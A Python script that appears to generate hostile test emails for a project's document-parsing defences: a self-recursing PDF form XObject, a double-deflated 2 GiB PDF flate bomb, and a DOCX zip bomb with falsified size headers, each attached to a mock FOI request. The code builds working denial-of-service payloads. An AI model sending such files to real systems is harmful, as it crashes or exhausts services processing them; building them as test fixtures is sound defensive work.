#!/usr/bin/env python3
"""Writes the hostile attachment samples in this folder (standard library only).

    python3 tests/data/hostile/make_attachment_samples.py

- self-drawing-pdf.eml: a ~1.5 KB email whose PDF has a form XObject that draws itself (`/X1 Do`
  inside /X1): a PDF text extractor recurses until its stack overflows (issue 9, finding 1).
- flate-bomb-pdf.eml: a PDF whose page content is 2 GiB of zeros, deflated (about 2 MB) and
  deflated once more (`/Filter [/FlateDecode /FlateDecode]`, ISO 32000 7.4: filters apply in
  order), so the sample stays small while the decoder still has to inflate 2 GiB (finding 2).
- docx-zip-bomb.eml: a DOCX whose word/document.xml inflates to 64 MiB while its ZIP headers
  claim 1 KiB.

The output is deterministic: running it again gives the same bytes.
"""

import base64
import io
import os
import struct
import zipfile
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))


def pdf(objects):
    """A PDF file from numbered object bodies (bytes), with a correct xref table."""
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for n, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def stream(extra, data):
    return b"<< %s /Length %d >>\nstream\n" % (extra, len(data)) + data + b"\nendstream"


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def self_drawing_pdf():
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
        b"/Resources << /XObject << /X1 4 0 R >> >> /Contents 5 0 R >>"
    )
    form = stream(
        b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] "
        b"/Resources << /XObject << /X1 4 0 R >> >>",
        b"/X1 Do",
    )
    return pdf([CATALOG, PAGES, page, form, stream(b"", b"/X1 Do")])


def flate_bomb_pdf():
    inner = zlib.compressobj(9)
    chunk = bytes(16 * 1024 * 1024)
    parts = [inner.compress(chunk) for _ in range(128)]  # 2 GiB of zeros
    parts.append(inner.flush())
    once = b"".join(parts)
    twice = zlib.compress(once, 9)
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
        b"/Resources << >> /Contents 4 0 R >>"
    )
    content = stream(b"/Filter [/FlateDecode /FlateDecode]", twice)
    return pdf([CATALOG, PAGES, page, content]), len(once)


def docx_zip_bomb():
    size = 64 * 1024 * 1024
    body = (
        b"<w:document xmlns:w='w'><w:body><w:p><w:r><w:t>"
        + b" " * size
        + b"</w:t></w:r></w:p></w:body></w:document>"
    )
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for name, data in [("[Content_Types].xml", b"<Types/>"), ("word/document.xml", body)]:
            info = zipfile.ZipInfo(name, date_time=(2026, 3, 2, 9, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(info, data)
    data = bytearray(buf.getvalue())
    # Patch every place the real uncompressed size is stored (local header, central directory)
    # to claim 1 KiB.
    needle, lie = struct.pack("<I", len(body)), struct.pack("<I", 1024)
    pos = data.find(needle)
    while pos != -1:
        data[pos : pos + 4] = lie
        pos = data.find(needle, pos + 4)
    return bytes(data)


def email(msgid, subject, body, mime, name, data):
    b64 = base64.encodebytes(data).decode("ascii").replace("\n", "\r\n")
    text = (
        "From: Sam Sender <sam@example.net>\r\n"
        "To: foi@council.example.gov.uk\r\n"
        f"Subject: {subject}\r\n"
        f"Message-ID: <{msgid}@example.net>\r\n"
        "Date: Tue, 10 Mar 2026 11:00:00 +0000\r\n"
        "MIME-Version: 1.0\r\n"
        'Content-Type: multipart/mixed; boundary="b"\r\n'
        "\r\n"
        "--b\r\n"
        "Content-Type: text/plain; charset=utf-8\r\n"
        "\r\n"
        f"{body}\r\n"
        "--b\r\n"
        f'Content-Type: {mime}; name="{name}"\r\n'
        f'Content-Disposition: attachment; filename="{name}"\r\n'
        "Content-Transfer-Encoding: base64\r\n"
        "\r\n"
        f"{b64}"
        "--b--\r\n"
    )
    return text.encode("ascii")


def write(name, data):
    with open(os.path.join(HERE, name), "wb") as f:
        f.write(data)
    print(f"{name}: {len(data)} bytes")


def main():
    request = (
        "Under the Freedom of Information Act 2000 please see my request in the attached "
        "letter.\r\n\r\nSam Sender"
    )
    write(
        "self-drawing-pdf.eml",
        email("self-drawing-pdf", "Request", request, "application/pdf", "letter.pdf",
              self_drawing_pdf()),
    )
    bomb, middle = flate_bomb_pdf()
    print(f"flate bomb: 2 GiB of zeros deflate to {middle} bytes, then to the stream below")
    write(
        "flate-bomb-pdf.eml",
        email("flate-bomb-pdf", "Request", request, "application/pdf", "letter.pdf", bomb),
    )
    docx = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    write(
        "docx-zip-bomb.eml",
        email("docx-zip-bomb", "Request", request, docx, "letter.docx", docx_zip_bomb()),
    )


if __name__ == "__main__":
    main()
